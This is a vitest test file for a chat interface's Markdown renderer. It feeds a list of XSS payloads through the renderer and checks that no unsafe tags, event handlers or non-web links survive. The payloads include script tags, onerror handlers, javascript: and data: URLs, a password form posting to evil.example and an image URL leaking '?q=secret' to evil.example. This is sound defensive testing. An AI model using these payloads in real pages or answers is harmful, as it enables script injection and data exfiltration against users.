import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import { Markdown } from "@/features/chat/markdown";
import { decoded, safeAddress } from "@/features/chat/markdown-text";

function drawn(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} />);
}

/** Tags that an answer may bring about; all of them are ours. */
const TAGS = new Set(
  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=https://evil.example></iframe>",
  "<style>*{display:none}</style>",
  "<form action=https://evil.example><input name=password></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example/a)",
  "[x](/settings)",
  "[x](https://user:secret@evil.example/)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/p.png?q=secret)",
  '![x](https://evil.example/p.png "a\\" onerror=alert(1)")',
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  '`<b onclick="x">`',
  "```html\n<script>alert(1)</script>\n```",
  "```\"><script>alert(1)</script>\ncode\n```",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
  "- [x] <b onmouseover=alert(1)>",
  "\u0000<script\u0000>alert(1)</script>",
];

describe("Markdown of a model", () => {
  test.each(ATTACKS)("%j brings about no tag and no address of its own", (attack) => {
    const html = drawn(attack);
    for (const [, tag] of html.matchAll(/<([a-z0-9]+)/g)) {
      expect(TAGS).toContain(tag);
    }
    expect(html).not.toMatch(/<[^>]*\s(on\w+|src|srcset|style|formaction)=/i);
    for (const [, address] of html.matchAll(/href="([^"]*)"/g)) {
      expect(address).toMatch(/^(https?:\/\/|mailto:)/);
      expect(address).not.toContain("@");
    }
  });

  test("links open elsewhere, and tell nothing about where they were", () => {
    expect(drawn("[x](https://example.org/a?b=c&d=e)")).toContain(
      '<a href="https://example.org/a?b=c&amp;d=e" target="_blank" rel="noopener noreferrer nofollow"',
    );
  });

  test("an image is not loaded; its host can be seen and its address followed", () => {
    const html = drawn("![A map](https://maps.example/a.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain("Image not loaded: A map");
    expect(html).toContain("open at maps.example");
  });

  test("HTML is shown as the text that it is", () => {
    expect(drawn("a <b>c</b>")).toContain("a &lt;b&gt;c&lt;/b&gt;");
  });

  test("what people use Markdown for is drawn", () => {
    const html = drawn("# T\n\n1. **a**\n2. *b* `c`\n\n> q\n\n- [x] d\n\n|h|\n|:-:|\n|e|\n\n---\n~~f~~");
    for (const part of [
      "<h3>T</h3>",
      '<ol start="1"><li><strong>a</strong></li>',
      "<em>b</em> <code>c</code>",
      "<blockquote><p>q</p></blockquote>",
      'aria-label="done:"',
      '<th class="text-center">h</th>',
      "<hr/>",
      "<del>f</del>",
    ]) {
      expect(html).toContain(part);
    }
  });

  test("a fence that is not closed yet is code already", () => {
    expect(drawn("```python\nprint(1)")).toContain("<code>print(1)</code>");
  });

  test.each([">".repeat(5_000) + "x", "- ".repeat(3_000) + "x", "*".repeat(20_000), "[".repeat(5_000)])(
    "what nests without end is drawn, however deep",
    (text) => {
      expect(drawn(text)).toContain("<div");
    },
  );

  test("character references are the characters they mean, decoded once", () => {
    expect(decoded("a &amp; b &#8212; &#x1F6F6; &copy; &nonsense; &amp;lt;")).toBe(
      "a & b — 🛶 © &nonsense; &lt;",
    );
    expect(decoded("&#0; &#99999999;")).toBe("\uFFFD &#99999999;");
  });

  test("only whole web and mail addresses are safe", () => {
    expect(safeAddress("https://example.org")).toBe("https://example.org/");
    expect(safeAddress("mailto:a@b.example")).toBe("mailto:a@b.example");
    expect(safeAddress("HTTP://Example.ORG/x")).toBe("http://example.org/x");
    for (const address of ["", "x", "//a.example", "blob:https://a.example/1", "file:///etc/passwd"]) {
      expect(safeAddress(address)).toBeNull();
    }
  });
});
